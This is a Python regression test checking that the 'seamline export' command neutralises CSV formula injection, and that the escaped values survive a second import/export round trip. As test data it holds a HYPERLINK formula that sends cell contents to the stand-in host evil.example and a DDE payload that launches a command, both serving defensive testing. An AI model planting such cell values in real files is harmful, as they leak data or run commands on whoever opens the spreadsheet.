"""`seamline export` writes master data a spreadsheet opens as data (issue #18 item 6).

A worker called ``=HYPERLINK(...)`` or a customer called ``@SUM(...)`` was written as is, so the
exported CSV ran a formula on whoever opened it. Run through the installed executable.
"""

from __future__ import annotations

import csv
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from seamline.adapters.csv_cells import TRIGGERS

REPO = Path(__file__).resolve().parents[2]
SEAMLINE = str(Path(sys.executable).parent / "seamline")
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL_CUSTOMER = "@SUM(1+1)*cmd|' /C calc'!A0"


def run(*args: str) -> subprocess.CompletedProcess[str]:
    r = subprocess.run([SEAMLINE, *args], capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    return r


def rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


@pytest.mark.slow
def test_export_neutralises_formula_cells_and_import_reads_them_back(tmp_path: Path) -> None:
    src = tmp_path / "factory"
    shutil.copytree(REPO / "examples" / "factory", src)
    workers = rows(src / "workers.csv")
    workers[1][1] = EVIL_NAME
    workers[2][1] = "-1+1"
    orders = rows(src / "orders.csv")
    for r in orders[1:]:
        if r[0] == orders[1][0]:
            r[1] = EVIL_CUSTOMER
    for name, data in (("workers.csv", workers), ("orders.csv", orders)):
        with (src / name).open("w", encoding="utf-8", newline="") as f:
            csv.writer(f, lineterminator="\n").writerows(data)
    db = f"sqlite:///{tmp_path}/a.db"
    run("import", str(src), "--db", db)
    out = tmp_path / "out"
    run("export", "xiaoshan", str(out), "--db", db)

    exported = {p.name: rows(p) for p in out.glob("*.csv")}
    names = {r[0]: r[1] for r in exported["workers.csv"][1:]}
    assert names[workers[1][0]] == "'" + EVIL_NAME
    assert names[workers[2][0]] == "'-1+1"
    assert any(r[1] == "'" + EVIL_CUSTOMER for r in exported["orders.csv"][1:])
    for table in exported.values():
        for r in table:
            for cell in r:
                # nothing a spreadsheet would run: any cell starting with a trigger is a plain number
                if cell.startswith(TRIGGERS) and cell not in ("-", "+"):
                    float(cell)  # raises if it is not
    # the protective quote is the file's, not the data's: a second round trip gives the same text
    db2 = f"sqlite:///{tmp_path}/b.db"
    run("import", str(out), "--db", db2)
    again = tmp_path / "again"
    run("export", "xiaoshan", str(again), "--db", db2)
    for p in out.glob("*.csv"):
        assert rows(again / p.name) == rows(p), p.name
